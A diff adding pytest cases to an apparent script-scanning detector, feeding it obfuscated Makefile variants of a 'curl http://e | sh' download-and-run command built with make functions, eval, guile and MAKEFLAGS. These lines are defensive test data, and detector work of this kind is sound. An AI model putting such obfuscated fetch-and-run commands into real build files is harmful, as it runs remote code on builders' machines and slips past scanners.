@@ -690,6 +690,37 @@ def test_shell_lexer_raises_no_error_for_any_text(text):
     list(collect_script_mentions(text[:60]))
 
 
+@pytest.mark.parametrize(
+    "recipe",
+    [
+        "$(subst X,,cuXrl http://e | sXh)", "$(call f,cu,rl) http://e | $(call f,s,h)", "$(patsubst X%,%,Xcurl) http://e | sh",
+        "$(if 1,curl,x) http://e | $(or sh,x)", "$(word 2,a curl) http://e | $(lastword a sh)", "$(R:X=) http://e | sh",
+        "$(subst X,,cuXrl \\\n  http://e | sh)", "$(foreach p,curl,$(p) http://e | sh)", "$(call call,f,cu,rl) http://e | sh",
+        "$(strip curl) $(addsuffix //e,http:) | $(join s,h)", "$(value R) true",
+    ],
+)  # fmt: skip
+def test_command_that_functions_of_make_compute_from_constants_is_mentioned(recipe, read_bytes):
+    text = f"f = $(1)$(2)\nR = curlX\nall:\n\t@{recipe}\n"
+    expected = ("download-and-run", "http://e") if "value" not in recipe else None
+    mentions = list_mentions(read_bytes(text.encode(), "Makefile"))
+    assert expected in mentions if expected else not mentions
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "$(eval X := $$(shell curl http://e | sh))\n",
+        "define T\n$(1):\n\tcurl http://e | sh\nendef\n$(foreach t,a b,$(eval $(call T,$(t))))\n",
+        "MAKEFLAGS += --eval=$$(shell\\ curl\\ http://e|sh)\n",
+        '$(guile (system "curl http://e | sh"))\n',
+        "CFLAGS := $(CFLAGS) -g\nA = $(B)\nB = $(A)\nall:\n\tcurl http://e | sh\n",
+        "all:\n\t$(info $(shell curl http://e | sh))\n",
+    ],
+)
+def test_command_that_a_makefile_adds_to_itself_is_mentioned(text, read_bytes):
+    assert ("download-and-run", "http://e") in list_mentions(read_bytes(text.encode(), "Makefile"))
+
+
 @settings(deadline=None)  # the first text that may hold a secret imports the detectors
 @given(st.binary(max_size=300), st.sampled_from(["a.sh", "Dockerfile", "Makefile", "a.ps1", ".gitconfig", "a.service"]))
 def test_scripts_of_any_bytes_never_crash_the_readers(read_bytes, data, path):
